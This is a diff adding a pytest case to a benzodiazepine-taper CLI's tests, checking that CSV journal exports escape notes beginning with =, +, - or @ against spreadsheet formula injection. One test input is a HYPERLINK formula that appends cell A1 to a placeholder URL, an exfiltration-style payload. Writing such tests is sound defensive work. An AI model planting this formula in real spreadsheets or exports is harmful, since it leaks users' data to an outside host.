@@ -323,3 +323,22 @@ def test_active_fhir_carries_the_journal_unless_told_not_to(
         "export", "-f", "fhir", "--journal", "--take", "lorazepam 1 mg at 08:00", cwd=tmp_path
     )
     assert need.exit_code == 2 and "--active" in need.stderr
+
+
+def test_csv_exports_cannot_carry_a_spreadsheet_formula(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A note starting with = (or +, -, @) would run as a formula in a spreadsheet."""
+    monkeypatch.setenv("BENZOTAPER_DATABASE_URL", f"sqlite:///{tmp_path / 'f.sqlite3'}")
+    save_lorazepam_plan(tmp_path)
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    for text in (formula, "+1+1", "@SUM(A1:A2)", "-2+3"):
+        noted = benzotaper("note", "--date", "2026-12-02", "--", text, cwd=tmp_path)
+        assert noted.exit_code == 0, noted.output
+    out = benzotaper("export", "-f", "csv", "--csv-kind", "journal", "--active", cwd=tmp_path)
+    assert out.exit_code == 0, out.output
+    notes = [r["note"] for r in csv.DictReader(io.StringIO(out.stdout)) if r["kind"] == "note"]
+    assert sorted(notes) == sorted(["'" + formula, "'+1+1", "'@SUM(A1:A2)", "'-2+3"])
+    steps = benzotaper("export", "-f", "csv", "--active", cwd=tmp_path)
+    rows = list(csv.DictReader(io.StringIO(steps.stdout)))
+    assert any(r["change_percent"].startswith("-") for r in rows)  # numbers stay numbers
